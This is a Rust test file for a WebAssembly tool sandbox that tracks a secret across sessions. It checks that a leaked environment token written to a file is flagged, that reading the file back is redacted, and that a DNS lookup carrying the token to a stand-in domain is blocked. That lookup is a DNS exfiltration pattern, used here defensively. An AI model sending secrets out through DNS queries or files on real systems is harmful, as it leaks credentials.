//! What one tool gives out and another takes in keeps its origin: sessions on a real guest that remember together.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::disallowed_methods,
    reason = "a test: it ends where something is not as it should be, and looks at the host"
)]

use customs_boundary::{Context, Network, Roots};
use customs_engine::load::{Allocation, Cache, Compiler, Fuel, read_component};
use customs_engine::{Host, Program, Report, Session};
use customs_flow::{Lineage, Severity};
use customs_ledger::{Component, Event, Ledger, Open, RunKey};
use customs_policy::{HostView, Layer, Origin, PathKind, Policy, RawFlow, RawGrants};
use serde_json::{Value, json};
use std::ffi::OsString;
use std::os::unix::fs::DirBuilderExt as _;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Instant;

const TOKEN: &str = "k7Qz2mXpLw93vRt5";

struct Machine;

impl HostView for Machine {
    fn canonical(&self, path: &Path) -> Result<(PathBuf, PathKind), String> {
        let real = path.canonicalize().map_err(|e| e.to_string())?;
        let kind = if real.is_dir() { PathKind::Dir } else { PathKind::File };
        Ok((real, kind))
    }

    fn env(&self) -> Vec<(OsString, OsString)> {
        Vec::new()
    }

    fn home(&self) -> Option<PathBuf> {
        None
    }
}

/// The puppet, and a directory that its sessions share.
struct Stage {
    runtime: tokio::runtime::Runtime,
    program: Arc<Program>,
    shared: tempfile::TempDir,
}

/// The puppet under a policy of its own.
struct Tool {
    session: Session,
    policy: Arc<Policy>,
    ledger: Arc<Mutex<Ledger>>,
}

impl Stage {
    fn new() -> Stage {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_time().enable_io().build().unwrap();
        let host = Host::new(Fuel::Off, Allocation::OnDemand).unwrap();
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../guests/dist/puppet.wasm");
        assert!(path.is_file(), "{} is missing: run make guests", path.display());
        let wasm = read_component(std::fs::File::open(path).unwrap(), "puppet", None).unwrap();
        let kept = Path::new(env!("CARGO_TARGET_TMPDIR")).join("lineage");
        std::fs::DirBuilder::new().recursive(true).mode(0o700).create(&kept).unwrap();
        let kept = cap_std::fs::Dir::open_ambient_dir(kept, cap_std::ambient_authority()).unwrap();
        let kept = Cache::open(kept).unwrap();
        let loaded = Compiler::InProcess.load(host.engine(), Some(&kept), &wasm, &|_| {}).unwrap();
        let program = Arc::new(Program::new(&host, loaded).unwrap());
        Stage { runtime, program, shared: tempfile::tempdir().unwrap() }
    }

    /// A session with some variables and flow rules, which may write to the shared directory at /box and look up names below c.example.
    fn tool(&self, env: &[&str], flows: &[(&str, &str, &str)], lineage: &Arc<Mutex<Lineage>>) -> Tool {
        let flow = |(from, to, action): &(&str, &str, &str)| RawFlow {
            from: (*from).to_owned(),
            to: (*to).to_owned(),
            action: (*action).to_owned(),
        };
        let raw = RawGrants {
            env: env.iter().map(|e| (*e).to_owned()).collect(),
            allow_write: vec![format!("{}::/box", self.shared.path().display())],
            allow_net: vec!["*.c.example".to_owned()],
            flow: flows.iter().map(flow).collect(),
            ..RawGrants::default()
        };
        let layer = Layer { raw, base: PathBuf::from("/"), origin: Origin::Flags };
        let policy = Arc::new(Policy::build(&[layer], &Machine).unwrap());
        let empty = tempfile::tempdir().unwrap();
        let roots = Arc::new(Roots::open(&policy, std::fs::File::open(empty.path()).unwrap()).unwrap());
        let ledger = Arc::new(Mutex::new(Ledger::memory_keeping()));
        let open = Event::Open(Open {
            run: "00000000000000000000000000000000",
            time: "2000-01-01T00:00:00Z",
            customs: "test",
            wasmtime: "test",
            component: Component { name: "puppet", sha256: self.program.sha256() },
            policy: policy.digest(),
            grants: policy.grants(),
            warnings: policy.warnings(),
        });
        ledger.lock().unwrap().append(&open).unwrap();
        let key = Arc::new(RunKey::random().unwrap());
        let (program, network) = (Arc::clone(&self.program), Arc::new(Network::none()));
        let session =
            Session::new(program, Arc::clone(&policy), roots, network, Arc::clone(&ledger), key, Instant::now());
        Tool { session: session.sharing(Arc::clone(lineage)), policy, ledger }
    }

    fn perform(&self, tool: &Tool, script: &Value) -> Report {
        let arguments = json!({"script": script.to_string()}).as_object().unwrap().clone();
        let prepared = Session::prepare(&self.program, &tool.policy, "perform", arguments).unwrap();
        self.runtime.block_on(tool.session.call(prepared, Context::default())).unwrap()
    }

    /// A lineage after a tool has returned its variable.
    fn leaked(&self) -> Arc<Mutex<Lineage>> {
        let lineage = Arc::default();
        let tool = self.tool(&[&format!("KEY={TOKEN}")], &[], &lineage);
        let report = self.perform(&tool, &json!([{"op": "env"}]));
        assert_eq!(rows(&report), ["CUS101 env -> return  warned"]);
        lineage
    }

    fn state(&self) -> String {
        std::fs::read_to_string(self.shared.path().join("state.txt")).unwrap()
    }
}

/// What was found: rule, kinds of source and sink, the variable that it came from in an earlier call, what was done.
fn rows(report: &Report) -> Vec<String> {
    let row = |f: &customs_flow::Finding| {
        let source = report.sources.iter().find(|s| Some(s.id) == f.source).unwrap().kind.as_str();
        let sink = report.sinks.iter().find(|s| s.id == f.sink).unwrap().kind.as_str();
        let origin = f.origin.as_ref().map_or("", |o| o.origin.name.as_str());
        format!("{} {source} -> {sink} {origin} {}", f.rule, f.action.as_str())
    };
    report.findings.iter().map(row).collect()
}

fn write(text: &str) -> Value {
    json!([
        {"op": "open", "dir": "/box", "path": "state.txt", "read": false, "write": true, "create": true, "truncate": true, "as": "h"},
        {"op": "write", "handle": "h", "text": text},
    ])
}

#[test]
fn a_secret_that_one_tool_returned_is_no_echo_of_the_caller_in_another() {
    let stage = Stage::new();
    let tool = stage.tool(&[], &[], &stage.leaked());
    let report = stage.perform(&tool, &write(TOKEN));
    assert_eq!(stage.state(), TOKEN);
    assert_eq!(rows(&report), ["CUS103 argument -> file KEY warned"]);
    assert_eq!((report.findings[0].severity, report.origins.len()), (Severity::Medium, 1));
    let ledger = String::from_utf8(tool.ledger.lock().unwrap().kept().to_vec()).unwrap();
    let finding = ledger.lines().find(|line| line.contains("CUS103")).unwrap();
    let finding: Value = serde_json::from_str(finding).unwrap();
    let origin = &finding["finding"]["origin"];
    assert_eq!(
        (&origin["call"], &origin["kind"], &origin["name"]),
        (&json!(1), &json!("env"), &json!("KEY")),
        "{finding}"
    );
    // One character away it is another text, and an echo; so is the same where nothing was remembered.
    let other = TOKEN.replace('Q', "R").replace('X', "Y").replace('9', "8");
    assert_eq!(rows(&stage.perform(&tool, &write(&other))), [""; 0]);
    let alone = stage.tool(&[], &[], &Arc::default());
    assert_eq!(rows(&stage.perform(&alone, &write(TOKEN))), [""; 0]);
    assert_eq!(stage.state(), TOKEN);
}

#[test]
fn what_a_call_wrote_and_a_later_one_reads_is_what_it_was() {
    let stage = Stage::new();
    let lineage = stage.leaked();
    stage.perform(&stage.tool(&[], &[], &lineage), &write(&format!("state: {TOKEN}\n")));
    let read = json!([{"op": "open", "dir": "/box", "path": "state.txt", "as": "h"}, {"op": "read", "handle": "h"}]);
    // A rule about the variable holds for the file that carries it.
    for (name, action) in [("env:KEY", "redacted"), ("env:KEX", "warned")] {
        let report = stage.perform(&stage.tool(&[], &[(name, "return", "redact")], &lineage), &read);
        let row = format!("CUS101 file -> return KEY {action}");
        assert!(rows(&report).contains(&row), "{:?}", rows(&report));
        let shown = report.result.unwrap().to_json().to_string();
        assert_eq!(shown.contains(TOKEN), action == "warned", "{shown}");
    }
    assert_eq!(stage.state(), format!("state: {TOKEN}\n"));
}

/// The judge knows of earlier calls too: the lookup does not leave.
#[test]
fn a_block_holds_for_what_came_from_an_earlier_call() {
    let stage = Stage::new();
    let look_up = json!([{"op": "resolve", "name": format!("{TOKEN}.c.example")}]);
    let flows = [("secret", "dns", "block")];
    let report = stage.perform(&stage.tool(&[], &flows, &stage.leaked()), &look_up);
    let codes: Vec<&str> = report.denials.iter().map(|d| d.code.as_str()).collect();
    assert_eq!(
        (codes.as_slice(), rows(&report).as_slice()),
        (&["flow-rule"][..], &["CUS102 argument -> dns KEY blocked".to_owned()][..])
    );
    let report = stage.perform(&stage.tool(&[], &flows, &Arc::default()), &look_up);
    assert_eq!((report.denials.len(), rows(&report).len()), (0, 0));
    assert!(report.sinks.iter().any(|s| s.kind.as_str() == "dns"), "the twin was asked");
}
